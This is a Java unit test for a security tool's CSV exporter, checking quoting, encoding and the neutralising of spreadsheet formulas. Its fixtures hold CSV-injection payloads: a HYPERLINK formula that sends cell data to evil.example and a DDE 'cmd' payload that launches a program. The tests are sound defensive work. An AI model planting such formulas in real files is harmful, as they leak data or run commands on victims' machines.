package io.github.trailbench.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import io.github.trailbench.core.findings.Evidence;
import io.github.trailbench.core.findings.Finding;
import io.github.trailbench.core.findings.FindingStatus;
import io.github.trailbench.core.findings.Severity;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

class CsvExportTest {
  static final List<String> HOSTILE = List.of(
      "plain",
      "comma, inside",
      "quote \" inside and \"\"double\"\"",
      "\"starts with quote",
      "line\nbreak",
      "crlf\r\nbreak",
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
      "+1+2",
      "-2+3",
      "@SUM(A1:A9)",
      "\tleading tab",
      "\rleading CR",
      "  spaces kept  ",
      "Ünïcödé ユーザー مرحبا \u200Frtl\u202E override 🧨",
      "nul\u0000and bell\u0007",
      "arn:aws:iam::111122223333:role/" + "x".repeat(2000),
      "");

  private static List<List<String>> parse(byte[] csv) throws Exception {
    CsvMapper mapper = new CsvMapper();
    mapper.enable(CsvParser.Feature.WRAP_AS_ARRAY);
    List<List<String>> rows = new ArrayList<>();
    try (MappingIterator<String[]> it = mapper.readerFor(String[].class).readValues(csv)) {
      while (it.hasNext()) {
        rows.add(Arrays.asList(it.next()));
      }
    }
    return rows;
  }

  /** What a consumer does with a formula-safe cell: strip the one added quote. */
  private static String unprefix(String cell, String original) {
    return !original.isEmpty() && CsvWriter.isFormula(original) ? cell.substring(1) : cell;
  }

  @Test
  void hostileCellsRoundTripThroughJackson() throws Exception {
    List<List<String>> rows = new ArrayList<>();
    for (String h : HOSTILE) {
      rows.add(Arrays.asList(h, "x" + h, null));
    }
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CsvExport.writeRows(List.of("value", "prefixed", "empty"), rows, out, CsvOptions.defaults());
    List<List<String>> back = parse(out.toByteArray());
    assertThat(back.get(0)).containsExactly("value", "prefixed", "empty");
    assertThat(back).hasSize(HOSTILE.size() + 1);
    for (int i = 0; i < HOSTILE.size(); i++) {
      String h = HOSTILE.get(i);
      List<String> row = back.get(i + 1);
      assertThat(unprefix(row.get(0), h)).isEqualTo(h);
      assertThat(row.get(1)).isEqualTo("x" + h);
      assertThat(row.get(2)).isEmpty();
    }
  }

  @Test
  void formulaCellsArePrefixedWithAQuote() throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CsvExport.writeRows(List.of("a"), List.of(List.of("=1+1"), List.of("+1x"), List.of("-1-cmd"), List.of("@x"),
        List.of("\tx"), List.of("\rx"), List.of("a=1"), List.of("  =1"), List.of("\n+x"), List.of("-1"), List.of("+2.5")),
        out, CsvOptions.defaults());
    List<List<String>> back = parse(out.toByteArray());
    assertThat(back.stream().skip(1).map(r -> r.get(0)))
        .containsExactly("'=1+1", "'+1x", "'-1-cmd", "'@x", "'\tx", "'\rx", "a=1", "'  =1", "'\n+x", "-1", "+2.5");
    ByteArrayOutputStream raw = new ByteArrayOutputStream();
    CsvExport.writeRows(List.of("a"), List.of(List.of("=1+1")), raw, CsvOptions.defaults().withFormulaSafe(false));
    assertThat(raw.toString(StandardCharsets.UTF_8)).isEqualTo("a\r\n=1+1\r\n");
  }

  @Test
  void rfc4180Bytes() throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CsvExport.writeRows(List.of("h1", "h,2"), List.of(List.of("a\"b", "c\nd"), List.of("e")), out, CsvOptions.defaults());
    assertThat(out.toString(StandardCharsets.UTF_8)).isEqualTo("h1,\"h,2\"\r\n\"a\"\"b\",\"c\nd\"\r\ne,\r\n");
    assertThat(out.toByteArray()[0]).isEqualTo((byte) 'h');
  }

  @Test
  void byteOrderMarkOnlyWhenAsked() throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CsvExport.writeRows(List.of("é"), List.of(List.of("ü")), out, CsvOptions.excel());
    byte[] b = out.toByteArray();
    assertThat(Arrays.copyOf(b, 3)).containsExactly(0xEF, 0xBB, 0xBF);
    assertThat(new String(b, 3, b.length - 3, StandardCharsets.UTF_8)).isEqualTo("é\r\nü\r\n");
  }

  @Test
  void rowsWiderThanTheHeaderAreRejected() {
    assertThatThrownBy(() -> CsvExport.writeRows(List.of("a"), List.of(List.of("1", "2")), new ByteArrayOutputStream(),
        CsvOptions.defaults())).isInstanceOf(IllegalArgumentException.class).hasMessageContaining("2 cells");
  }

  static Finding finding(String id, Severity severity, String title, String summary, int events) {
    List<Evidence> evidence = new ArrayList<>();
    for (int i = 0; i < events; i++) {
      evidence.add(new Evidence.Event(id + "-e" + i, "111122223333", Instant.parse("2026-11-21T10:00:00Z").plusSeconds(i * 60L),
          "iam.amazonaws.com", "CreateAccessKey", "us-east-1", "arn:aws:iam::111122223333:user/mallory",
          "AKIAIOSFODNN7EXAMPLE", "203.0.113.50", "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22", i % 3 == 0 ? "AccessDenied" : "Success"));
    }
    evidence.add(new Evidence.Principal("arn:aws:iam::111122223333:user/mallory"));
    evidence.add(new Evidence.AccessKey("AKIAIOSFODNN7EXAMPLE"));
    evidence.add(new Evidence.Reference(Evidence.ReferenceKind.DECISION_TRACE, "trace-" + id, "Why was CreateAccessKey allowed?"));
    return new Finding(id, "access-key-created-for-other-user", title, severity, FindingStatus.OPEN, summary,
        "Creating long-term keys for someone else is a classic persistence step.", "", evidence, events,
        Instant.parse("2026-11-21T10:00:00Z"), Instant.parse("2026-11-21T10:00:00Z").plusSeconds((events - 1) * 60L),
        Instant.parse("2026-11-23T09:00:00Z"), List.of("https://docs.aws.amazon.com/IAM/latest/APIReference/API_CreateAccessKey.html"));
  }

  @Test
  void anExportThatFailsHalfWayLeavesThePreviousFile(@org.junit.jupiter.api.io.TempDir java.nio.file.Path tmp)
      throws Exception {
    java.nio.file.Path file = tmp.resolve("findings.csv");
    java.nio.file.Files.writeString(file, "previous export");
    Finding one = finding("f-1", Severity.HIGH, "t", "s", 1);
    List<Finding> failing = new java.util.AbstractList<>() {
      @Override
      public Finding get(int i) {
        if (i == 1) {
          throw new IllegalStateException("case closed under the export");
        }
        return one;
      }

      @Override
      public int size() {
        return 3;
      }
    };
    org.assertj.core.api.Assertions.assertThatThrownBy(() -> CsvExport.writeFindings(failing, file, CsvOptions.defaults()))
        .hasMessageContaining("case closed");
    assertThat(java.nio.file.Files.readString(file)).isEqualTo("previous export");
    try (var files = java.nio.file.Files.list(tmp)) {
      assertThat(files).containsExactly(file);
    }
  }

  @Test
  void findingsAndEvidence() throws Exception {
    Finding f = finding("f-1", Severity.HIGH, "Access key created for another user",
        "=cmd|' /C calc'!A0 mallory created a key for bob, \"admin\"", 3).withNotes("line 1\nline 2, \"quoted\"")
        .withStatus(FindingStatus.FALSE_POSITIVE);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CsvExport.writeFindings(List.of(f), out, CsvOptions.defaults());
    List<List<String>> back = parse(out.toByteArray());
    assertThat(back.get(0)).isEqualTo(CsvExport.FINDING_COLUMNS);
    List<String> row = back.get(1);
    assertThat(row.get(0)).isEqualTo("f-1");
    assertThat(row.get(3)).isEqualTo("high");
    assertThat(row.get(4)).isEqualTo("false-positive");
    assertThat(row.get(5)).isEqualTo("'" + f.summary());
    assertThat(row.get(6)).isEqualTo("arn:aws:iam::111122223333:user/mallory");
    assertThat(row.get(9)).isEqualTo("3");
    assertThat(row.get(10)).isEqualTo("f-1-e0; f-1-e1; f-1-e2");
    assertThat(row.get(15)).isEqualTo("line 1\nline 2, \"quoted\"");
    assertThat(row.get(16)).contains("decision_trace:trace-f-1 (Why was CreateAccessKey allowed?)");

    ByteArrayOutputStream ev = new ByteArrayOutputStream();
    CsvExport.writeEvidence(List.of(f), ev, CsvOptions.defaults());
    List<List<String>> evRows = parse(ev.toByteArray());
    assertThat(evRows.get(0)).isEqualTo(CsvExport.EVIDENCE_COLUMNS);
    assertThat(evRows).hasSize(4);
    assertThat(evRows.get(1)).containsSubsequence("f-1", "access-key-created-for-other-user", "high", "f-1-e0", "111122223333",
        "2026-11-21T10:00:00Z", "iam.amazonaws.com", "CreateAccessKey");
    assertThat(evRows.get(1).get(13)).isEqualTo("AccessDenied");
  }
}
